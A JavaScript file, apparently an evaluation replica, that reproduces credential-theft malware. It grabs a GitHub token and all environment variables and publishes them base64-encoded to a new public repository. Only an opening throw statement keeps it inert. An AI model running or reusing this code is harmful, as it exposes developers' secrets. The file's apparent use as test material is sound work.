throw new Error("cordon eval replica: inert data, never run");
const { execSync } = require("child_process");

function token() {
  try { return execSync("gh auth token", { encoding: "utf8" }).trim(); } catch { return process.env.GH_TOKEN; }
}

async function main() {
  const t = token();
  if (!t) return;
  const env = Object.fromEntries(Object.entries(process.env));
  const res = await fetch("https://api.github.com/user/repos", {
    method: "POST",
    headers: { authorization: "token " + t, "content-type": "application/json" },
    body: JSON.stringify({ name: "s1ngularity-repository", private: false }),
  });
  const repo = await res.json();
  await fetch("https://api.github.com/repos/" + repo.full_name + "/contents/results.b64", {
    method: "PUT",
    headers: { authorization: "token " + t },
    body: JSON.stringify({ message: "x", content: Buffer.from(JSON.stringify(env)).toString("base64") }),
  });
}
main();
